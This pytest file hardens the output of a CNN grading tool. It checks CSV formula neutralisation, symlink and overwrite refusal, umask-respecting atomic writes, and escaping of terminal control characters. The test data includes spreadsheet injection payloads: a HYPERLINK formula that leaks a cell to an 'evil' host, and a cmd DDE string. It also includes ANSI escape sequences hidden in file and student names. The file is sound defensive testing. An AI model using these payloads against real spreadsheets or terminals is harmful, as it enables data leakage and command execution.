"""Writes are safe (hardening issue): no CSV cell becomes a formula, no output is silently dropped,
every file is written whole with the user's umask, and nothing is overwritten unasked.

The rules: `cnntool.spreadsheet` is the one CSV writer (a test below finds any other), and
`cnntool.files.atomic_write` is the one way a file is written.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from cnntool.spreadsheet import csv_text, safe_cell
from tests.hardening.sandbox import ROOT, assert_refused, run

EXAMPLES = ROOT / "examples"
KEY = EXAMPLES / "lecture_key.toml"


# --- CSV: formulas neutralised, numbers kept ------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
        ("-3", "-3"),
        ("+0.5", "+0.5"),
        ("1e3", "1e3"),
        ("conv 10 k5", "conv 10 k5"),
        ("", ""),
        (760, 760),
        (-5, -5),
        (0.5, 0.5),
        (None, None),
    ],
)
def test_a_cell_is_never_a_formula_and_a_number_stays_a_number(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_csv_text_quotes_what_csv_must_and_neutralises_every_cell() -> None:
    text = csv_text([["file", "score"], ['=1+1,"x"\nsecond line', 3], ["-1", -1.5]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["file", "score"], ['\'=1+1,"x"\nsecond line', "3"], ["-1", "-1.5"]]


def test_there_is_one_csv_writer() -> None:
    """No module but cnntool/spreadsheet.py writes CSV itself (csv.writer / csv.DictWriter)."""
    writers = []
    for path in (ROOT / "cnntool").rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            attribute = isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
            if attribute and isinstance(node.value, ast.Name) and node.value.id == "csv":
                writers.append(path.relative_to(ROOT).as_posix())
    assert writers == ["cnntool/spreadsheet.py"], writers


def test_a_class_csv_neutralises_names_the_students_chose(tmp_path: Path) -> None:
    subs = tmp_path / "subs"
    subs.mkdir()
    evil = '=HYPERLINK("http:,,evil",".toml")'  # a file name (no / allowed in one)
    (subs / f"{evil}.toml").write_text('student = "@SUM(1+1)"\n[answers]\nq2 = 760\n')
    (subs / "minus.toml").write_text('student = "-2+3"\n[answers]\nq1 = "32x32x10"\n')
    (subs / "broken.toml").write_text('[answers]\n"=cmd" = 1\nq1 = [[[[[[[[[1]]]]]]]]]\n')
    grades = tmp_path / "grades.csv"
    outcome = run(["check", "--key", str(KEY), str(subs), "--csv", str(grades)])
    assert outcome.code == 2, outcome.stderr
    rows = list(csv.reader(io.StringIO(grades.read_text())))
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r" or cell.lstrip("-").replace(".", "").isdigit(), row
    by_student = {r[1]: r for r in rows[1:]}
    assert by_student["'@SUM(1+1)"][2] == "1" and by_student["'-2+3"][2] == "1"  # scores are plain numbers
    assert Path(by_student["'@SUM(1+1)"][0].lstrip("'")).name == f"{evil}.toml"


def test_summary_csv_goes_through_the_same_writer() -> None:
    outcome = run(["summary", "3x32x32 | conv 10 k5 p2 | relu", "--format", "csv"])
    assert outcome.code == 0
    rows = list(csv.reader(io.StringIO(outcome.stdout)))
    assert rows[1][:4] == ["1", "conv 10 k5 p2", "10×32×32", "760"] and rows[-1][3] == "760"


# --- -o FILE is never ignored ------------------------------------------------------------------------


def test_output_in_text_mode_writes_the_report(tmp_path: Path) -> None:
    out = tmp_path / "report.txt"
    outcome = run(["check", str(EXAMPLES / "lecture_answers_wrong.toml"), "-o", str(out)])
    assert outcome.code == 1 and outcome.stdout == ""
    text = out.read_text(encoding="utf-8")
    assert "score: 0.5 / 16" in text and "hint: forgot the bias" in text and "\x1b" not in text
    assert_refused(
        run(["check", str(EXAMPLES / "lecture_answers.toml"), "-o", str(out)]), "exists", "--force"
    )
    assert run(["check", str(EXAMPLES / "lecture_answers.toml"), "-o", str(out), "--force"]).code == 0
    assert "score: 31 / 31" in out.read_text(encoding="utf-8")


def test_a_class_report_in_text_mode_goes_to_the_file_too(tmp_path: Path) -> None:
    out = tmp_path / "class.txt"
    outcome = run(["check", "--key", str(KEY), str(EXAMPLES / "submissions"), "-o", str(out)])
    assert outcome.code == 1 and outcome.stdout == ""
    assert "ada.toml" in out.read_text() and "0.5 / 5" in out.read_text()


@pytest.mark.parametrize(
    "fmt", [[], ["--json"], ["-f", "gradescope", "--key", str(KEY)]], ids=["text", "json", "gs"]
)
def test_an_output_that_cannot_be_written_says_why(tmp_path: Path, fmt: list[str]) -> None:
    answers = str(EXAMPLES / "submissions" / "ada.toml" if fmt[1:] else EXAMPLES / "lecture_answers.toml")
    missing = tmp_path / "no" / "such" / "out.txt"
    assert_refused(run(["check", answers, *fmt, "-o", str(missing)]), "does not exist")
    (tmp_path / "dir").mkdir()
    assert_refused(run(["check", answers, *fmt, "-o", str(tmp_path / "dir"), "--force"]), "is a folder")
    assert not missing.parent.exists() and os.listdir(tmp_path / "dir") == []


def test_the_key_is_never_written_through_a_link(tmp_path: Path) -> None:
    key = tmp_path / "key.toml"
    key.write_bytes(KEY.read_bytes())
    link = tmp_path / "grades.csv"
    link.symlink_to(key)
    outcome = run(["check", "--key", str(key), str(EXAMPLES / "submissions"), "--csv", str(link), "--force"])
    assert_refused(outcome, "would overwrite an answer file or the key")
    assert key.read_bytes() == KEY.read_bytes()


def test_a_csv_onto_a_symlink_loop_is_refused_then_replaced_with_force(tmp_path: Path) -> None:
    loop = tmp_path / "grades.csv"
    loop.symlink_to(loop)
    subs = str(EXAMPLES / "submissions")
    assert_refused(run(["check", "--key", str(KEY), subs, "--csv", str(loop)]), "exists", "--force")
    assert run(["check", "--key", str(KEY), subs, "--csv", str(loop), "--force"]).code == 1
    assert loop.is_file() and not loop.is_symlink() and loop.read_text().startswith("file,student")


def test_files_are_written_with_the_user_s_umask_and_no_temporary_file_is_left(tmp_path: Path) -> None:
    out, grades = tmp_path / "r.json", tmp_path / "g.csv"
    command = [sys.executable, "-m", "cnntool", "check", "--key", str(KEY), str(EXAMPLES / "submissions"),
               "--json", "-o", str(out), "--csv", str(grades)]  # fmt: skip
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    result = subprocess.run(command, env=env, capture_output=True, preexec_fn=lambda: os.umask(0o027))
    assert result.returncode == 1, result.stderr
    for path in (out, grades):
        assert stat.S_IMODE(path.stat().st_mode) == 0o640, oct(path.stat().st_mode)
    assert json.loads(out.read_text())["broken"] == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["g.csv", "r.json"]


def test_quiz_files_into_a_missing_folder_say_so(tmp_path: Path) -> None:
    assert_refused(run(["quiz", "--out", str(tmp_path / "no" / "quiz.toml")]), "does not exist")
    assert_refused(run(["quiz", "--key", str(tmp_path / "no" / "key.toml")]), "does not exist")


# --- cnntool examples: copies out, never overwrites unasked ------------------------------------------


def test_examples_are_copied_and_never_overwritten_without_force(tmp_path: Path) -> None:
    target = tmp_path / "ex"
    assert run(["examples", str(target)], cwd=tmp_path).code == 0
    assert (target / "alexnet.net").read_bytes() == (EXAMPLES / "alexnet.net").read_bytes()
    assert (target / "submissions" / "bob.toml").is_file()
    assert "14 already there" in run(["examples", str(target)]).stdout  # the same files: nothing to do
    (target / "rgb.txt").write_text("mine\n")
    assert_refused(run(["examples", str(target)]), "rgb.txt", "exists with other content", "--force")
    assert (target / "rgb.txt").read_text() == "mine\n"
    assert run(["examples", str(target), "--force"]).code == 0
    assert (target / "rgb.txt").read_bytes() == (EXAMPLES / "rgb.txt").read_bytes()
    assert_refused(run(["examples", str(tmp_path / "no" / "ex")]), "does not exist")
    (tmp_path / "file").write_text("x")
    assert_refused(run(["examples", str(tmp_path / "file")]), "is a file, not a folder")


def test_control_characters_a_student_wrote_never_reach_the_terminal_raw(tmp_path: Path) -> None:
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "a\x1b[2J\nb.toml").write_text('student = "\\u001b]0;pwned\\u0007Eve"\n[answers\n')
    (subs / "c.toml").write_text('student = "\\u001b[31mMallory"\n[answers]\nq1 = "\\u001b[2J"\n')
    outcome = run(["check", "--key", str(KEY), str(subs)])
    assert outcome.code == 2 and "\x1b" not in outcome.stdout + outcome.stderr
    assert "\\x1b[31mMallory" in outcome.stdout and "a\\x1b[2J\\nb.toml" in outcome.stderr
    errors = [line for line in outcome.stderr.splitlines() if line.startswith("error: ")]
    assert len(errors) == len(outcome.stderr.splitlines()) == 1  # one line, though the name had a newline
    single = run(["check", "--key", str(KEY), str(subs / "c.toml")])
    assert single.code == 1 and "\x1b" not in single.stdout and "\\x1b[2J" in single.stdout
